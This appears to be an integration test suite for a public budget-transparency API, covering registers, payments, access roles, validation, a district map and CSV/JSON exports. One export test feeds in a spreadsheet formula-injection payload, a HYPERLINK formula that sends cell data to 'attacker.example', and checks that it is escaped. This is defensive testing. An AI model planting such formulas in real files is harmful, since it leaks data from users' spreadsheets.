import { randomUUID } from 'node:crypto';
import type { Role } from '@app/platform';
import { bearer, http } from '@app/testing';
import { spawnedService } from '../../support/spawned-services';
import { eventTypes } from '../../support/service-calls';
import { csvRecords } from '../../support/csv-records';
import { validBin } from '../../support/valid-bins';
import { expectRebuildsIdentical, withServiceDataSource } from '../../support/service-data-sources';
import { BUDGET_MAP_CSV_COLUMNS } from '../../support/budget-map-columns';

// The budgets API as officials, moderators and the public use it: a real process on real Postgres and Kafka.
describe('budgets over HTTP', () => {
  const { db, service } = spawnedService('budgets', 'budgets_api');

  const call = (method: string, path: string, role?: Role, body?: unknown, headers: Record<string, string> = {}) =>
    http(method, `${service.url}${path}`, { body, headers: { ...(role ? bearer(role) : {}), ...headers } });
  /** An official's write conditioned on the version last read (the If-Match header, as the console sends it). */
  const postIfMatch = (path: string, body: unknown, ifMatch: string) =>
    call('POST', path, 'official', body, { 'if-match': ifMatch });
  /** An official's payment on a contract, which is also its expenditure on the contract's programme. */
  const pay = (contract: string, amountTiyn: number, paidOn: string, description: string) =>
    call('POST', `/contracts/${contract}/payments`, 'official', { amountTiyn, paidOn, description });

  async function institution(district = 'Taraz', kind = 'department'): Promise<string> {
    const bin = validBin();
    const registered = await call('POST', '/institutions', 'official', {
      bin,
      name: `Institution ${bin}`,
      district,
      kind,
    });
    expect(registered.status).toBe(201);
    return bin;
  }

  async function programme(institutionBin: string, body: Record<string, unknown> = {}): Promise<string> {
    const published = await call('POST', '/programmes', 'official', {
      institutionBin,
      fiscalYear: 2026,
      code: `451-${Math.floor(Math.random() * 1e6)}`,
      name: 'Street repair',
      purpose: 'road_maintenance',
      allocationTiyn: 1_000_000,
      ...body,
    });
    expect(published.status).toBe(201);
    return published.body.id;
  }

  /** The export as a spreadsheet gets it: raw bytes (fetch's text() would drop the BOM), then RFC 4180 records. */
  async function exportCsv(year: number) {
    const response = await fetch(`${service.url}/exports/${year}.csv`, { signal: AbortSignal.timeout(15_000) });
    expect(response.status).toBe(200);
    const bytes = Buffer.from(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(bytes).slice(1);
    return { type: response.headers.get('content-type'), records: csvRecords(text) };
  }

  const contractBody = (programmeId: string, body: Record<string, unknown> = {}) => ({
    programmeId,
    contractorBin: '123456789013',
    contractorName: 'Taraz Zhol LLP',
    subject: 'Resurfacing of Tole bi',
    roadSegment: { roadName: 'Tole bi', fromKm: 1.2, toKm: 3.4 },
    amountTiyn: 600_000,
    signedAt: '2020-01-31',
    warrantyMonths: 1,
    ...body,
  });

  async function contract(programmeId: string, body: Record<string, unknown> = {}): Promise<string> {
    const signed = await call('POST', '/contracts', 'official', contractBody(programmeId, body));
    expect(signed.status).toBe(201);
    return signed.body.id;
  }

  it('registers an institution, publishes, amends and spends a programme, pays a contract, and discloses the year', async () => {
    const bin = await institution('Taraz', 'akimat');
    const read = await call('GET', `/institutions/${bin}`);
    expect(read.status).toBe(200);
    expect(read.body).toMatchObject({ bin, district: 'Taraz', kind: 'akimat', version: 1, disclosedYears: [] });
    expect(read.headers.get('etag')).toBe('"1"');

    const refused = await call('POST', `/institutions/${bin}/disclosures`, 'official', { fiscalYear: 2026 });
    expect(refused.status).toBe(409);
    expect(refused.body).toMatchObject({ error: 'no_programmes', fiscalYear: 2026 });

    const published = await call('POST', '/programmes', 'official', {
      institutionBin: bin,
      fiscalYear: 2026,
      code: '451-015',
      name: 'Street repair',
      purpose: 'road_maintenance',
      allocationTiyn: 1_000_000,
    });
    expect(published.status).toBe(201);
    expect(published.body).toMatchObject({ version: 1, allocationTiyn: 1_000_000, spentTiyn: 0 });
    expect(published.headers.get('etag')).toBe('"1"');
    const id = published.body.id;
    const twice = await call('POST', '/programmes', 'official', {
      institutionBin: bin,
      fiscalYear: 2026,
      code: '451-015',
      name: 'Street repair',
      purpose: 'road_maintenance',
      allocationTiyn: 1,
    });
    expect(twice.status).toBe(409);
    expect(twice.body).toMatchObject({ error: 'programme_exists', programmeId: id });

    const amended = await postIfMatch(
      `/programmes/${id}/amend`,
      { newAllocationTiyn: 1_500_000, reason: 'maslikhat decision 12' },
      '"1"',
    );
    expect(amended.status).toBe(200);
    expect(amended.body).toMatchObject({ id, version: 2, allocationTiyn: 1_500_000 });

    const spent = await call('POST', `/programmes/${id}/expenditures`, 'official', {
      amountTiyn: 500_000,
      date: '2026-03-01',
      description: 'marking',
    });
    expect(spent.status).toBe(201);
    expect(spent.body).toMatchObject({ version: 3, spentTiyn: 500_000 });
    const over = await call('POST', `/programmes/${id}/expenditures`, 'official', {
      amountTiyn: 1_000_001,
      date: '2026-03-02',
      description: 'too much',
    });
    expect(over.status).toBe(409);
    expect(over.body).toMatchObject({ error: 'allocation_exceeded', remainingTiyn: 1_000_000, amountTiyn: 1_000_001 });

    const signed = await call('POST', '/contracts', 'official', contractBody(id));
    expect(signed.status).toBe(201);
    expect(signed.body).toMatchObject({ version: 1, warrantyEndsAt: '2020-02-29' });
    const contractId = signed.body.id;
    const paid = await pay(contractId, 400_000, '2026-04-01', 'stage 1');
    expect(paid.status).toBe(201);
    expect(paid.body).toMatchObject({ id: contractId, version: 2, paidTiyn: 400_000, amountTiyn: 600_000 });
    const overpaid = await pay(contractId, 200_001, '2026-04-02', 'stage 2');
    expect(overpaid.status).toBe(409);
    expect(overpaid.body).toMatchObject({ error: 'contract_amount_exceeded', remainingTiyn: 200_000 });

    const row = await call('GET', `/programmes/${id}`);
    expect(row.body).toMatchObject({
      id,
      version: 4,
      institutionBin: bin,
      district: 'Taraz',
      fiscalYear: 2026,
      code: '451-015',
      purpose: 'road_maintenance',
      direction: 'expenditure',
      approvedTiyn: 1_000_000,
      allocationTiyn: 1_500_000,
      amendments: 1,
      spentTiyn: 900_000,
      revenueTiyn: 0,
      flagged: false,
    });
    expect(row.headers.get('etag')).toBe('"4"');
    const contractRow = await call('GET', `/contracts/${contractId}`);
    expect(contractRow.body).toMatchObject({
      id: contractId,
      programmeId: id,
      contractorBin: '123456789013',
      amountTiyn: 600_000,
      paidTiyn: 400_000,
      signedAt: '2020-01-31',
      warrantyEndsAt: '2020-02-29',
      roadSegment: { roadName: 'Tole bi', fromKm: 1.2, toKm: 3.4 },
    });

    const history = await call('GET', `/programmes/${id}/history`, 'auditor');
    expect(eventTypes(history)).toEqual([
      'ProgrammePublished',
      'AllocationAmended',
      'ExpenditureRecorded',
      'ExpenditureRecorded',
    ]);
    expect(history.body.events[3].data).toMatchObject({ amountTiyn: 400_000, contractId, date: '2026-04-01' });
    const asOf = await call('GET', `/programmes/${id}?asOf=2`);
    expect(asOf.body).toMatchObject({ version: 2, allocationTiyn: 1_500_000, spentTiyn: 0 });
    expect(eventTypes(await call('GET', `/contracts/${contractId}/history`, 'official'))).toEqual([
      'ContractSigned',
      'ContractPaymentRecorded',
    ]);
    expect((await call('GET', `/contracts/${contractId}?asOf=1`)).body).toMatchObject({
      version: 1,
      paidTiyn: 0,
      warrantyEndsAt: '2020-02-29',
    });

    const disclosed = await postIfMatch(`/institutions/${bin}/disclosures`, { fiscalYear: 2026 }, '"1"');
    expect(disclosed.status).toBe(201);
    expect(disclosed.body).toMatchObject({ id: bin, version: 2, disclosedYears: [2026] });
    expect(eventTypes(await call('GET', `/institutions/${bin}/history`, 'moderator'))).toEqual([
      'InstitutionRegistered',
      'DisclosureDeclared',
    ]);
    expect((await call('GET', `/institutions/${bin}?asOf=1`)).body).toMatchObject({ version: 1, disclosedYears: [] });
  });

  it('filters the public registers without a token', async () => {
    const district = `District-${randomUUID()}`;
    const akimat = await institution(district, 'akimat');
    const utility = await institution(district, 'utility');
    const roads = await programme(akimat, { fiscalYear: 2027 });
    await programme(akimat, { fiscalYear: 2028, purpose: 'other' });
    await programme(utility, { fiscalYear: 2027, purpose: 'fine_revenue' });
    await call('POST', `/institutions/${akimat}/disclosures`, 'official', { fiscalYear: 2027 });
    const c1 = await contract(roads, { contractorBin: '140840012347' });

    const byDistrict = await call('GET', `/institutions?district=${district}`);
    expect(byDistrict.status).toBe(200);
    expect(byDistrict.body.total).toBe(2);
    expect(
      (await call('GET', `/institutions?district=${district}&kind=utility`)).body.items.map(
        (i: { bin: string }) => i.bin,
      ),
    ).toEqual([utility]);
    expect(
      (await call('GET', `/institutions?district=${district}&disclosedIn=2027`)).body.items.map(
        (i: { bin: string }) => i.bin,
      ),
    ).toEqual([akimat]);
    expect((await call('GET', `/institutions?district=${district}&disclosedIn=2028`)).body.total).toBe(0);

    expect((await call('GET', `/programmes?institution=${akimat}`)).body.total).toBe(2);
    const of2027 = await call(
      'GET',
      `/programmes?institution=${akimat}&year=2027&purpose=road_maintenance&flagged=false`,
    );
    expect(of2027.body.items.map((p: { id: string }) => p.id)).toEqual([roads]);
    expect((await call('GET', `/programmes?institution=${utility}`)).body.items[0]).toMatchObject({
      purpose: 'fine_revenue',
      direction: 'revenue',
    });
    expect((await call('GET', `/programmes?institution=${akimat}&flagged=true`)).body.total).toBe(0);

    expect((await call('GET', `/contracts?programme=${roads}`)).body.items.map((c: { id: string }) => c.id)).toEqual([
      c1,
    ]);
    const byContractor = await call('GET', '/contracts?contractor=140840012347');
    expect(byContractor.body.items.map((c: { id: string }) => c.id)).toContain(c1);
    expect(byContractor.body.items.every((c: { contractorBin: string }) => c.contractorBin === '140840012347')).toBe(
      true,
    );
  });

  it('answers 409 on a stale If-Match, naming the versions', async () => {
    const id = await programme(await institution());
    const stale = await postIfMatch(`/programmes/${id}/amend`, { newAllocationTiyn: 5, reason: 'cut' }, '"3"');
    expect(stale.status).toBe(409);
    expect(stale.body).toMatchObject({ error: 'version_conflict', expectedVersion: 3, actualVersion: 1 });
    const staleSpend = await postIfMatch(
      `/programmes/${id}/expenditures`,
      { amountTiyn: 1, date: '2026-01-01', description: 'x' },
      '"2"',
    );
    expect(staleSpend.status).toBe(409);
    const c = await contract(id);
    const stalePay = await postIfMatch(
      `/contracts/${c}/payments`,
      { amountTiyn: 1, paidOn: '2026-01-01', description: 'x' },
      '"5"',
    );
    expect(stalePay.status).toBe(409);
    expect(stalePay.body).toMatchObject({ error: 'version_conflict', actualVersion: 1 });
    // Neither stream changed: the payment and its expenditure commit together or not at all.
    expect((await call('GET', `/programmes/${id}`)).body).toMatchObject({ version: 1, spentTiyn: 0 });
    const bin = await institution();
    await programme(bin);
    expect((await postIfMatch(`/institutions/${bin}/disclosures`, { fiscalYear: 2026 }, '"2"')).status).toBe(409);
    const badIfMatch = await postIfMatch(
      `/programmes/${id}/amend`,
      { newAllocationTiyn: 5, reason: 'cut' },
      'yesterday',
    );
    expect(badIfMatch.status).toBe(400);
    expect(badIfMatch.body.field).toBe('If-Match');
  });

  it('refuses a payment the programme cannot afford, leaving the contract unpaid', async () => {
    const id = await programme(await institution(), { allocationTiyn: 100 });
    const c = await contract(id, { amountTiyn: 1_000 });
    const refused = await pay(c, 101, '2026-01-01', 'x');
    expect(refused.status).toBe(409);
    expect(refused.body).toMatchObject({ error: 'allocation_exceeded', remainingTiyn: 100 });
    expect((await call('GET', `/contracts/${c}`)).body).toMatchObject({ version: 1, paidTiyn: 0 });
  });

  it.each<[string, string, Role[]]>([
    ['POST', '/institutions', ['citizen', 'moderator', 'inspector', 'contractor', 'auditor', 'operator']],
    ['POST', '/institutions/{bin}/disclosures', ['citizen', 'moderator', 'contractor', 'auditor']],
    ['POST', '/programmes', ['citizen', 'moderator', 'inspector', 'contractor', 'auditor']],
    ['POST', '/programmes/{id}/amend', ['citizen', 'moderator', 'contractor', 'auditor']],
    ['POST', '/programmes/{id}/expenditures', ['citizen', 'moderator', 'inspector', 'contractor']],
    ['POST', '/programmes/{id}/resolve-flag', ['citizen', 'inspector', 'contractor', 'auditor']],
    ['POST', '/contracts', ['citizen', 'moderator', 'contractor', 'auditor']],
    ['POST', '/contracts/{contract}/payments', ['citizen', 'moderator', 'contractor', 'auditor']],
    ['GET', '/programmes/{id}/history', ['citizen', 'contractor']],
    ['GET', '/contracts/{contract}/history', ['citizen', 'inspector']],
    ['GET', '/institutions/{bin}/history', ['citizen', 'contractor']],
  ])('%s %s refuses %p with 403', async (method, path, roles) => {
    const bin = await institution();
    const id = await programme(bin);
    const c = await contract(id);
    for (const role of roles) {
      const response = await call(
        method,
        path.replace('{bin}', bin).replace('{id}', id).replace('{contract}', c),
        role,
        method === 'GET' ? undefined : {},
      );
      expect({ role, status: response.status }).toEqual({ role, status: 403 });
    }
  });

  it('serves the registers, the map and the exports without a token, and refuses commands without one', async () => {
    for (const path of [
      '/institutions',
      '/programmes',
      '/contracts',
      '/map?fiscalYear=2026',
      '/exports/2026.csv',
      '/exports/2026.json',
    ]) {
      expect({ path, status: (await call('GET', path)).status }).toEqual({ path, status: 200 });
    }
    expect(
      (await call('POST', '/institutions', undefined, { bin: validBin(), name: 'x', district: 'y', kind: 'other' }))
        .status,
    ).toBe(401);
  });

  it('lets a moderator resolve a flag, and says when the flag is not open', async () => {
    const id = await programme(await institution());
    const response = await call('POST', `/programmes/${id}/resolve-flag`, 'moderator', {
      reportId: randomUUID(),
      outcome: 'dismissed',
    });
    expect(response.status).toBe(409);
    expect(response.body.error).toBe('flag_not_open');
  });

  it.each(['/institutions', '/programmes', '/contracts'])('pages %s with the shared cap of 200', async (path) => {
    const full = await call('GET', `${path}?limit=200`);
    expect(full.status).toBe(200);
    expect(full.body).toMatchObject({ page: 1, limit: 200 });
    const tooMany = await call('GET', `${path}?limit=201`);
    expect(tooMany.status).toBe(400);
    expect(JSON.stringify(tooMany.body)).toContain('limit');
  });

  it.each<[string, string, Record<string, unknown>, string]>([
    ['POST', '/institutions', { bin: '123', name: 'x', district: 'Taraz', kind: 'akimat' }, 'bin'],
    ['POST', '/institutions', { bin: '123456789012', name: 'x', district: 'Taraz', kind: 'akimat' }, 'bin'],
    ['POST', '/institutions', { bin: '{fresh}', name: 'x', district: 'Taraz', kind: 'ministry' }, 'kind'],
    ['POST', '/institutions', { bin: '{fresh}', name: '', district: 'Taraz', kind: 'akimat' }, 'name'],
    [
      'POST',
      '/institutions',
      { bin: '{fresh}', name: 'x', district: 'Taraz', kind: 'akimat', colour: 'red' },
      'colour',
    ],
    ['POST', '/institutions/{bin}/disclosures', { fiscalYear: 'soon' }, 'fiscalYear'],
    [
      'POST',
      '/programmes',
      { institutionBin: '{bin}', fiscalYear: 2026, code: '1', name: 'x', purpose: 'parties', allocationTiyn: 1 },
      'purpose',
    ],
    [
      'POST',
      '/programmes',
      { institutionBin: '{bin}', fiscalYear: 2026, code: '1', name: 'x', purpose: 'other', allocationTiyn: 1.5 },
      'allocationTiyn',
    ],
    [
      'POST',
      '/programmes',
      { institutionBin: '{bin}', fiscalYear: 2026, code: '1', name: 'x', purpose: 'other', allocationTiyn: -1 },
      'allocationTiyn',
    ],
    [
      'POST',
      '/programmes',
      { institutionBin: '{fresh}', fiscalYear: 2026, code: '1', name: 'x', purpose: 'other', allocationTiyn: 1 },
      'institutionBin',
    ],
    ['POST', '/programmes/{id}/amend', { newAllocationTiyn: 1 }, 'reason'],
    ['POST', '/programmes/{id}/amend', { newAllocationTiyn: 0, reason: 'below spending' }, 'newAllocationTiyn'],
    ['POST', '/programmes/{id}/expenditures', { amountTiyn: 0, date: '2026-01-01', description: 'x' }, 'amountTiyn'],
    ['POST', '/programmes/{id}/expenditures', { amountTiyn: 1, date: '2026-02-30', description: 'x' }, 'date'],
    [
      'POST',
      '/programmes/{id}/expenditures',
      { amountTiyn: 1, date: '2026-01-01', description: 'x', contractId: '{otherContract}' },
      'contractId',
    ],
    ['POST', '/programmes/{id}/resolve-flag', { reportId: 'r', outcome: 'forgotten' }, 'outcome'],
    ['POST', '/contracts', { ...contractBody('{id}'), contractorBin: '123456789012' }, 'contractorBin'],
    [
      'POST',
      '/contracts',
      { ...contractBody('{id}'), roadSegment: { roadName: 'A-2', fromKm: -1, toKm: 2 } },
      'roadSegment.fromKm',
    ],
    [
      'POST',
      '/contracts',
      { ...contractBody('{id}'), roadSegment: { roadName: 'A-2', fromKm: 5, toKm: 2 } },
      'roadSegment.toKm',
    ],
    ['POST', '/contracts', { ...contractBody('{id}'), signedAt: '31.01.2020' }, 'signedAt'],
    ['POST', '/contracts', { ...contractBody('{id}'), warrantyMonths: 1.5 }, 'warrantyMonths'],
    ['POST', '/contracts', { ...contractBody('{id}'), programmeId: randomUUID() }, 'programmeId'],
    ['POST', '/contracts/{contract}/payments', { amountTiyn: 10, paidOn: 'yesterday', description: 'x' }, 'paidOn'],
    ['GET', '/programmes?flagged=maybe', {}, 'flagged'],
    ['GET', '/institutions?kind=ministry', {}, 'kind'],
    ['GET', '/contracts?contractor=12', {}, 'contractor'],
    ['GET', '/map', {}, 'fiscalYear'],
    ['GET', '/exports/last-year.csv', {}, 'year'],
  ])('%s %s answers 400 naming %#', async (method, path, body, field) => {
    const bin = await institution();
    const id = await programme(bin);
    const c = await contract(id);
    await call('POST', `/programmes/${id}/expenditures`, 'official', {
      amountTiyn: 10,
      date: '2026-01-01',
      description: 'x',
    });
    const otherContract = await contract(await programme(bin));
    const fill = (text: string) =>
      text
        .replace('{fresh}', validBin())
        .replace('{bin}', bin)
        .replace('{id}', id)
        .replace('{contract}', c)
        .replace('{otherContract}', otherContract);
    const filled = JSON.parse(fill(JSON.stringify(body)));
    const response = await call(method, fill(path), 'official', method === 'GET' ? undefined : filled);
    expect({ status: response.status, field: response.body.field }).toEqual({ status: 400, field });
  });

  it('answers 404 for unknown institutions, programmes and contracts', async () => {
    const bin = validBin();
    const id = randomUUID();
    expect((await call('GET', `/institutions/${bin}`)).status).toBe(404);
    expect((await call('GET', `/institutions/${bin}/history`, 'auditor')).status).toBe(404);
    expect((await call('POST', `/institutions/${bin}/disclosures`, 'official', { fiscalYear: 2026 })).status).toBe(404);
    expect((await call('GET', `/programmes/${id}`)).status).toBe(404);
    expect((await call('GET', `/programmes/${id}?asOf=1`)).status).toBe(404);
    expect((await call('GET', `/programmes/${id}/history`, 'auditor')).status).toBe(404);
    for (const verb of ['amend', 'expenditures', 'resolve-flag']) {
      const body = {
        amend: { newAllocationTiyn: 1, reason: 'x' },
        expenditures: { amountTiyn: 1, date: '2026-01-01', description: 'x' },
        'resolve-flag': { reportId: 'r', outcome: 'dismissed' },
      }[verb];
      const response = await call('POST', `/programmes/${id}/${verb}`, 'official', body);
      expect({ verb, status: response.status, resource: response.body.resource }).toEqual({
        verb,
        status: 404,
        resource: 'Programme',
      });
    }
    expect((await call('GET', `/contracts/${id}`)).status).toBe(404);
    expect((await call('GET', `/contracts/${id}/history`, 'auditor')).status).toBe(404);
    const payment = await pay(id, 1, '2026-01-01', 'x');
    expect(payment.status).toBe(404);
    expect(payment.body.resource).toBe('Contract');
  });

  it('shows a map whose figures equal the sums of what was published, and exports the year', async () => {
    const year = 2040 + Math.floor(Math.random() * 50);
    const north = `North-${randomUUID()}`;
    const south = `South-${randomUUID()}`;
    const n1 = await institution(north, 'akimat');
    const n2 = await institution(north, 'utility');
    const s1 = await institution(south, 'department');
    const p1 = await programme(n1, { fiscalYear: year, code: '451-001', allocationTiyn: 1_000_000 });
    const p2 = await programme(n1, { fiscalYear: year, code: '451-002', allocationTiyn: 250_000 });
    const p3 = await programme(n2, { fiscalYear: year, code: '451-003', allocationTiyn: 500_000 });
    const p4 = await programme(s1, { fiscalYear: year, code: '451-004', allocationTiyn: 2_000_000 });
    await call('POST', `/programmes/${p2}/amend`, 'official', { newAllocationTiyn: 300_000, reason: 'more marking' });
    await call('POST', `/programmes/${p1}/expenditures`, 'official', {
      amountTiyn: 400_000,
      date: `${year}-02-01`,
      description: 'a',
    });
    await call('POST', `/programmes/${p3}/expenditures`, 'official', {
      amountTiyn: 125_000,
      date: `${year}-02-01`,
      description: 'b',
    });
    const c4 = await contract(p4, { amountTiyn: 1_000_000 });
    await pay(c4, 999_999, `${year}-03-01`, 'c');
    await call('POST', `/institutions/${n1}/disclosures`, 'official', { fiscalYear: year });
    await call('POST', `/institutions/${s1}/disclosures`, 'official', { fiscalYear: year });

    const started = Date.now();
    const map = await call('GET', `/map?fiscalYear=${year}`);
    expect(Date.now() - started).toBeLessThan(1_000);
    expect(map.status).toBe(200);
    const districtOf = (name: string) => map.body.districts.find((d: { district: string }) => d.district === name);
    expect(districtOf(north)).toMatchObject({
      institutionCount: 2,
      disclosedInstitutions: 1,
      disclosureCoveragePercent: 50,
      programmes: 3,
      allocatedTiyn: 1_800_000,
      spentTiyn: 525_000,
      executionPercent: 29.17,
      revenueTiyn: 0,
      flaggedProgrammes: 0,
      disclosedBudgetTiyn: 1_300_000,
    });
    expect(districtOf(north).institutions.find((i: { bin: string }) => i.bin === n1)).toMatchObject({
      disclosed: true,
      programmes: 2,
      allocatedTiyn: 1_300_000,
      spentTiyn: 400_000,
      executionPercent: 30.77,
    });
    expect(districtOf(south)).toMatchObject({
      institutionCount: 1,
      disclosedInstitutions: 1,
      disclosureCoveragePercent: 100,
      allocatedTiyn: 2_000_000,
      spentTiyn: 999_999,
      executionPercent: 50,
    });
    // Only this test published programmes for this year: the totals are exactly its sums.
    expect(map.body.totals).toMatchObject({
      programmes: 4,
      allocatedTiyn: 3_800_000,
      spentTiyn: 1_524_999,
      revenueTiyn: 0,
      disclosedBudgetTiyn: 3_300_000,
    });
    expect(map.body.totals.disclosedInstitutions).toBe(2);

    const csv = await exportCsv(year);
    expect(csv.type).toBe('text/csv; charset=utf-8');
    const [header, ...lines] = csv.records;
    expect(header).toEqual(BUDGET_MAP_CSV_COLUMNS);
    expect(lines).toHaveLength(4 * 3);
    // Amounts in the unit the data package's schema states: integer tiyn.
    const line = (bin: string, code: string, id: string, phase: string, amountTiyn: string) => [
      `${year}`,
      bin,
      `Institution ${bin}`,
      code,
      'Street repair',
      id,
      'expenditure',
      phase,
      amountTiyn,
      'KZT',
    ];
    expect(lines).toContainEqual(line(n1, '451-002', p2, 'approved', '250000'));
    expect(lines).toContainEqual(line(n1, '451-002', p2, 'adjusted', '300000'));
    expect(lines).toContainEqual(line(s1, '451-004', p4, 'executed', '999999'));

    const json = await call('GET', `/exports/${year}.json`);
    expect(json.body).toMatchObject({
      profile: 'fiscal-data-package',
      model: { measures: { amount: { source: 'amount_tiyn', currency: 'KZT', factor: 0.01 } } },
    });
    const data = json.body.resources[0].data as Array<{ phase: string; amount_tiyn: number }>;
    expect(data).toHaveLength(12);
    expect(data.filter((l) => l.phase === 'executed').reduce((sum, l) => sum + l.amount_tiyn, 0)).toBe(1_524_999);
    expect(data.filter((l) => l.phase === 'adjusted').reduce((sum, l) => sum + l.amount_tiyn, 0)).toBe(3_800_000);
    // The CSV holds the very figures of the data package, cell for cell.
    expect(lines.map((l) => Number(l[8])).reduce((sum, n) => sum + n, 0)).toBe(
      data.reduce((sum, l) => sum + l.amount_tiyn, 0),
    );
    expect(json.body.model.dimensions.administrative_classification).toMatchObject({
      classificationType: 'administrative',
    });
  });

  it('exports a CSV that opens safely in a spreadsheet: UTF-8 with its BOM, formulas shown as text', async () => {
    // Years apart from the register test's (2040-2089), whose totals count every line of its year.
    const year = 2090 + Math.floor(Math.random() * 10);
    const bin = validBin();
    const name = '=HYPERLINK("http://attacker.example/?"&A1,"Алматы қаласы")';
    expect(
      (await call('POST', '/institutions', 'official', { bin, name, district: 'Taraz', kind: 'akimat' })).status,
    ).toBe(201);
    const id = await programme(bin, { fiscalYear: year, code: '451-777', name: '@SUM(1+1)*cmd', allocationTiyn: 5 });

    const [header, ...records] = (await exportCsv(year)).records;
    expect(header[2]).toBe('administrative_name');
    // Only this institution's lines: the register test may have drawn the same random year.
    const lines = records.filter((record) => record[1] === bin);
    expect(lines).toHaveLength(3);
    for (const line of lines) {
      expect(line[2]).toBe(`'${name}`);
      expect(line[4]).toBe("'@SUM(1+1)*cmd");
      expect(line[5]).toBe(id);
    }
    expect(lines.map((l) => [l[7], l[8]])).toEqual([
      ['approved', '5'],
      ['adjusted', '5'],
      ['executed', '0'],
    ]);
  });

  it('rebuilds the institution, programme and contract registers from the events identical to the live ones', async () => {
    const { budgetProjections } = await import('../../../apps/budgets/src/projections/budget-projections');
    await withServiceDataSource(db.url, 'budgets', 'budgets-test', (dataSource) =>
      expectRebuildsIdentical(dataSource, 'budgets', budgetProjections),
    );
  });
});
